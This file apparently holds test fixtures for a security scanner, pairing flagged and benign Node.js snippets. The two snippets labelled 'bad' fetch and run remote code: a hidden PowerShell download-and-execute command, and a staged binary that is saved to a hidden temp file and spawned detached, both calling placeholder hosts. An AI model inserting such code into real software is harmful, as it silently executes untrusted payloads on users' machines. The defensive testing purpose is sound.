//: bad hidden-powershell
const { exec } = require('child_process');

exec("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://d.example.invalid/a.ps1')\"", { //!
  windowsHide: true,
});

//: good hidden-powershell
const { execFile } = require('child_process');

execFile('powershell', ['-NoProfile', '-Command', 'Get-Date -Format o'], { windowsHide: true }, (error, out) => {
  console.log(error ? 'unknown' : out.trim());
});

//: bad staged-binary
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');

const target = path.join(os.tmpdir(), '.cache-' + process.pid);
https.get('https://cdn.example.invalid/agent', (res) => {
  res.pipe(fs.createWriteStream(target)).on('finish', () => {
    fs.chmodSync(target, 0o755);
    require('child_process').spawn(target, [], { detached: true, stdio: 'ignore' }).unref(); //!
  });
});

//: good staged-binary
const https = require('https');
const fs = require('fs');
const path = require('path');

const target = path.join(__dirname, 'data', 'cities.json');
https.get('https://cdn.example.invalid/cities.json', (res) => {
  res.pipe(fs.createWriteStream(target)).on('finish', () => {
    const cities = JSON.parse(fs.readFileSync(target, 'utf8'));
    console.log(`${cities.length} cities`);
  });
});
